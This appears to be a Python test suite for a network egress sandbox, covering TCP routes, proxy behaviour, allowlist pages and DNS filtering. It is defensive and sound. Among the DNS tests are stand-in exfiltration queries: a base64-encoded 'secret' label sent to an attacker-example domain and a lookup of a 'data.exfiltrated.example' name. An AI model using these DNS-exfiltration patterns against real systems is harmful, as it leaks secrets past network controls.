# SPDX-License-Identifier: BSD-2-Clause
"""Routes of every kind, and names."""
import json
import re

import harness
import world as w
from harness import Bottle, BottleCase, Case, PROXY_PORT, sh_curl

ECHO = r"""
import socket, sys, threading
s = socket.create_connection((sys.argv[1], int(sys.argv[2])), 5)
s.settimeout(10)
size = int(sys.argv[3])
data = bytes(range(256)) * (size // 256)
threading.Thread(target=lambda: (s.sendall(data), s.shutdown(socket.SHUT_WR))).start()
got = b""
while chunk := s.recv(1 << 20):
    got += chunk
print(got == data, len(got), s.getpeername()[1] if False else "")
"""


class Routes(BottleCase):
    def test_tcp_by_name(self):
        self.assertIn("True", self.ok(self.bottle.python(ECHO, "tcp.example.test", "7000",
                                                         "4000000")))

    def test_tcp_by_address(self):
        self.assertIn("True", self.ok(self.bottle.python(ECHO, "203.0.113.16", "7000", "100096")))

    def test_tcp_other_port(self):
        self.assertNotEqual(self.bottle.python(ECHO, "203.0.113.16", "443", "256").returncode, 0)
        self.assertNotEqual(self.bottle.python(ECHO, "tcp.example.test", "443", "256").returncode, 0)

    def test_tcp_beside_the_block(self):
        self.assertNotEqual(self.bottle.python(ECHO, "203.0.113.18", "7000", "256").returncode, 0)

    def test_passthrough_shows_the_true_certificate(self):
        output = self.ok(self.bottle.run(["curl", "-sS", "--cacert",
                                          harness.world.path("test-ca.pem"),
                                          "https://pinned.example.test/x"]))
        self.assertEqual(json.loads(output)["address"], "203.0.113.13")
        self.assertEqual(self.header(self.arrived()[0], "authorization"), [])

    def test_passthrough_volume(self):
        output = self.ok(self.bottle.run(["curl", "-sSk", "-o", "/dev/null", "-w",
                                          "%{size_download}",
                                          "https://pinned.example.test/bytes/50000000"]))
        self.assertEqual(output, "50000000")

    def test_upstream_over_ipv6(self):
        output = self.ok(self.bottle.curl("https://six.example.test/x"))
        self.assertEqual(json.loads(output)["address"], "2001:db8:e2e::17")

    def test_getpeername_shows_what_was_asked_for(self):
        code = ("import socket; a = socket.gethostbyname('api.example.test');"
                "s = socket.create_connection((a, 443)); print(s.getpeername() == (a, 443))")
        self.assertEqual(self.ok(self.bottle.python(code)).strip(), "True")

    def test_own_servers(self):
        """The bottle may talk to itself."""
        code = ("import socket; l = socket.create_server(('127.0.0.1', 0));"
                "c = socket.create_connection(l.getsockname()); a, _ = l.accept();"
                "c.sendall(b'hi'); print(a.recv(2))")
        self.assertEqual(self.ok(self.bottle.python(code)).strip(), "b'hi'")

    def test_allowlist_page(self):
        output = self.ok(self.bottle.curl("-x", f"http://egress:{PROXY_PORT}",
                                          "http://_egress.local/allowlist"))
        self.assertIn("api.example.test", output)
        self.assertNotIn(harness.MARK, output)
        self.assertNotIn("E2E_TOKEN", output)

    def test_own_pages_by_name(self):
        """Without a proxy variable; and nothing but the two pages is there."""
        output = self.ok(self.bottle.curl("-i", "http://_egress.local/allowlist"))
        self.assertIn("api.example.test", output)
        self.assertNotIn("_egress.local", output)
        etag = re.search(r"(?im)^etag: (\S+)", output)[1]
        status = ("-o", "/dev/null", "-w", "%{http_code}")
        for arguments, want in (
                (("http://_egress.local/allowlist", "-H", f"If-None-Match: {etag}"), "304"),
                (("http://_egress.local/allowlist", "-H", 'If-None-Match: "x"'), "200"),
                (("http://_egress.local/health",), "200"),
                (("http://_egress.local/", ), "404"),
                (("http://_egress.local/health", "-d", "x"), "405"),
                (("http://_egress.local/health", "-H", "Host: api.example.test"), "403"),
                ((f"http://egress:{PROXY_PORT}/allowlist",), "200"),
                ((f"http://egress:{PROXY_PORT}/health",), "200"),
                (("http://api.example.test/health", "-H", "Host: _egress.local"), "403")):
            output = self.ok(self.bottle.curl(*status, *arguments))
            self.assertEqual(output, want, arguments)
        for url in ("https://_egress.local/health", "http://_egress.local:8080/health",
                    f"http://_egress.local:{PROXY_PORT}/health"):
            self.assertNotEqual(self.bottle.curl("-k", "--max-time", "5", url).returncode, 0, url)
        tunnel = ("-x", f"http://egress:{PROXY_PORT}", "-p", "-k", "--max-time", "5")
        self.assertIn("ok", self.ok(self.bottle.curl(*tunnel, "http://_egress.local/health")))
        for url in ("https://_egress.local/health", "https://_egress.local:80/health"):
            self.assertNotEqual(self.bottle.curl(*tunnel, url).returncode, 0, url)
        self.assertEqual(self.arrived(), [])

    def test_proxy_variables_name_us(self):
        env = ["env", f"HTTP_PROXY=http://egress:{PROXY_PORT}",
               f"http_proxy=http://egress:{PROXY_PORT}", f"HTTPS_PROXY=http://egress:{PROXY_PORT}"]
        for url in ("http://both.example.test/echo", "https://both.example.test/echo"):
            self.ok(self.bottle.run([*env, "curl", "-sS", "--fail", "--max-time", "20",
                                     "--cacert", self.bottle.certificate, url]))
        self.assertEqual(len(self.arrived()), 2)


class Names(BottleCase):
    def dig(self, *arguments):
        return self.ok(self.bottle.run(["dig", "+time=2", "+tries=1", "@192.0.2.53", *arguments]))

    def address(self, name, *more):
        return self.dig("+short", name, "A", *more).strip()

    def test_synthetic_addresses(self):
        first = self.address("api.example.test")
        self.assertRegex(first, r"^198\.1[89]\.\d+\.\d+$")
        self.assertEqual(self.address("API.Example.TEST."), first)
        self.assertEqual(self.address("api.example.test", "+tcp"), first)
        self.assertNotEqual(self.address("second.example.test"), first)

    def test_other_types(self):
        for kind in ("AAAA", "HTTPS", "SVCB"):
            output = self.dig("api.example.test", kind)
            self.assertIn("status: NOERROR", output)
            self.assertIn("ANSWER: 0", output)

    def test_forbidden_names(self):
        for arguments in (["forbidden.example.test", "A"], ["wild.example.test", "A"],
                          ["c2VjcmV0.attacker.example", "TXT"],
                          ["forbidden.example.test", "A", "+tcp"]):
            with self.subTest(arguments=arguments):
                output = self.dig(*arguments)
                self.assertRegex(output, "status: (NXDOMAIN|REFUSED)")
                self.assertRegex(output, r"EDE: 1[5-8]")
                self.assertIn("policy", output.lower())

    def test_localhost_and_proxy_name(self):
        code = ("import socket; print(socket.gethostbyname('egress'),"
                "socket.gethostbyname('localhost'))")
        self.assertEqual(self.ok(self.bottle.python(code)).split(), ["127.0.0.1", "127.0.0.1"])

    def test_pipelined_tcp_queries_are_judged_one_by_one(self):
        code = r"""
import socket, struct
def query(n, name):
    q = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    m = struct.pack("!HHHHHH", n, 0x100, 1, 0, 0, 0) + q + struct.pack("!HH", 1, 1)
    return struct.pack("!H", len(m)) + m
data = query(1, "api.example.test") + query(2, "forbidden.example.test") + query(3, "api.example.test")
s = socket.create_connection(("192.0.2.53", 53), 5)
s.settimeout(5)
s.sendall(data[:20]); s.sendall(data[20:51]); s.sendall(data[51:])
f = s.makefile("rb")
for _ in range(3):
    size, = struct.unpack("!H", f.read(2))
    message = f.read(size)
    print(*struct.unpack("!HH", message[:4])[:1], message[3] & 15, message[7])
"""
        rows = [line.split() for line in self.ok(self.bottle.python(code)).splitlines()]
        self.assertEqual([r[0] for r in rows], ["1", "2", "3"])
        self.assertEqual([rows[0][1:], rows[2][1:]], [["0", "1"]] * 2)
        self.assertIn(rows[1][1], ("3", "5"))
        self.assertEqual(rows[1][2], "0")

    def test_no_query_leaves(self):
        sniffer = w.Sniffer(harness.world)
        for name in ("api.example.test", "data.exfiltrated.example"):
            self.dig(name)
        self.assertEqual([p for p in sniffer.drain() if p[2] == 53], [])

    def test_many_names_under_a_wildcard(self):
        """A flood of names is refused before it fills anything."""
        code = r"""
import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
codes = {}
for n in range(5000):
    q = b"".join(bytes([len(p)]) + p for p in b"x%d.wild.example.test".replace(b"%d", b"%d" % n).split(b".")) + b"\0"
    s.sendto(struct.pack("!HHHHHH", n, 0x100, 1, 0, 0, 0) + q + struct.pack("!HH", 1, 1), ("192.0.2.53", 53))
    answer = s.recv(2048)
    codes[answer[3] & 15] = codes.get(answer[3] & 15, 0) + 1
print(codes.get(0, 0), 5000 - codes.get(0, 0))
"""
        bottle = Bottle()
        try:
            good, bad = self.ok(bottle.python(code)).split()
            self.assertGreater(int(good), 1000)
            self.assertGreater(int(bad), 500)
            self.assertGreater(bottle.counter("limit"), 0)
            self.ok(bottle.curl("-f", "https://api.example.test/echo"))
        finally:
            bottle.stop()


class NoKernel(Case):
    def test_proxy_only(self):
        bottle = Bottle(by="none")
        try:
            self.assertRegex(bottle.errors().lower(), "no kernel wall|without (a|the) kernel wall")
            output = self.ok(sh_curl(bottle, "-x", f"http://127.0.0.1:{PROXY_PORT}",
                                     "https://api.example.test/echo"))
            self.assertIn("sha256:", output)
            refused = sh_curl(bottle, "-x", f"http://127.0.0.1:{PROXY_PORT}",
                              "https://forbidden.example.test/")
            self.assertIn("403", refused.stderr)
        finally:
            bottle.stop()


class ByCgroup(Case):
    def test_run_on_a_cgroup_path(self):
        bottle = Bottle(by="cgroup")
        try:
            self.ok(bottle.curl("-f", "https://api.example.test/echo"))
            self.assertNotEqual(bottle.curl("https://203.0.113.12/").returncode, 0)
        finally:
            bottle.stop()

    def test_shared_namespace_serves(self):
        bottle = Bottle(by="cgroup", shared=True)
        try:
            self.ok(bottle.curl("-f", "https://api.example.test/echo"))
            self.assertNotEqual(bottle.curl("https://203.0.113.12/").returncode, 0)
        finally:
            bottle.stop()

    def test_shared_namespace_serves_the_bottle_alone(self):
        """Another process of the host finds the proxy's port, but not the bottle's credentials."""
        bottle = Bottle(by="cgroup", shared=True)
        try:
            proxy = f"http://127.0.0.1:{PROXY_PORT}"
            self.ok(bottle.curl("-f", "-x", proxy, "https://api.example.test/echo"))
            before = len(self.arrived())
            stranger = sh_curl(bottle, "-x", proxy, "https://api.example.test/echo")
            self.assertNotEqual(stranger.returncode, 0)
            self.assertEqual(len(self.arrived()), before)
            self.assertTrue(any(r.get("detail") == "not a connection of the bottle's"
                                for r in bottle.log()))
        finally:
            bottle.stop()
